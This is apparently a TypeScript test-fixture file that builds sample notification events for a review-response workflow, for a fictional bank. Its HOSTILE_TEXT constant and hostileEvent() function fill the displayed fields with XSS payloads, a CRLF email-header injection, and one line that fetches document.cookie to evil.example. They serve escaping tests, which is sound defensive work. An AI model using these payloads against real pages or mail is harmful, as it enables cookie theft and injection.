import type { TEventOf, TNotificationEvent, TNotificationKind } from "./notification-event.ts";

/** Test support: one event of each kind, and a mention text written to break out of HTML. */
export const HOSTILE_TEXT = `Ужасный сервис <script>alert("x")</script> <img src=x onerror="fetch('https://evil.example/'+document.cookie)"> & "quotes" 'too'`;

const base = {
  brandName: "Northwind Bank",
  caseId: "c0ffee00-0000-4000-8000-000000000001",
  caseUrl: "https://repute.example.com/cases/c0ffee00-0000-4000-8000-000000000001",
  mention: {
    excerpt: "Waited 40 minutes on the hotline and nobody answered.\nNever again.",
    author: "Ivan P.",
    site: "banki.ru",
    url: "https://www.banki.ru/services/responses/bank/response/123456/",
  },
  occurredAt: "2026-11-20T09:30:00Z",
  actorName: "Anna Specialist",
} as const;

export function sampleEvent<K extends TNotificationKind>(kind: K, overrides: Partial<TEventOf<K>> = {}): TEventOf<K> {
  const events: { [P in TNotificationKind]: TEventOf<P> } = {
    new_negative: { kind: "new_negative", ...base, mention: { ...base.mention }, actorName: null },
    awaiting_approval: { kind: "awaiting_approval", ...base, mention: { ...base.mention }, responseText: "We are sorry. Please write to us at help@northwind.example." },
    approved: { kind: "approved", ...base, mention: { ...base.mention }, actorName: "Client Approver", responseText: "We are sorry. Please write to us." },
    returned: {
      kind: "returned",
      ...base,
      mention: { ...base.mention },
      actorName: "Client Approver",
      responseText: "We are sorry.",
      reason: "Too short; mention the refund.",
    },
    overdue: { kind: "overdue", ...base, mention: { ...base.mention }, actorName: null, dueAt: "2026-11-20T15:00:00Z" },
    published: {
      kind: "published",
      ...base,
      mention: { ...base.mention },
      responseText: "We are sorry. Please write to us.",
      publishedUrl: "https://www.banki.ru/services/responses/bank/response/123456/#answer",
    },
  };
  return { ...events[kind], ...overrides };
}

export function allSampleEvents(): TNotificationEvent[] {
  return [
    sampleEvent("new_negative"),
    sampleEvent("awaiting_approval"),
    sampleEvent("approved"),
    sampleEvent("returned"),
    sampleEvent("overdue"),
    sampleEvent("published"),
  ];
}

/** Every field a reader sees, filled with hostile text. */
export function hostileEvent(): TEventOf<"returned"> {
  return sampleEvent("returned", {
    brandName: `Evil <b>Brand</b>\r\nBcc: victim@example.com`,
    actorName: `<img src=x onerror=alert(1)>`,
    mention: { excerpt: HOSTILE_TEXT, author: `<script>alert(2)</script>`, site: `"><svg onload=alert(3)>`, url: "https://example.com/?q=<script>" },
    responseText: HOSTILE_TEXT,
    reason: `</blockquote><a href="javascript:alert(4)">click</a>`,
  });
}
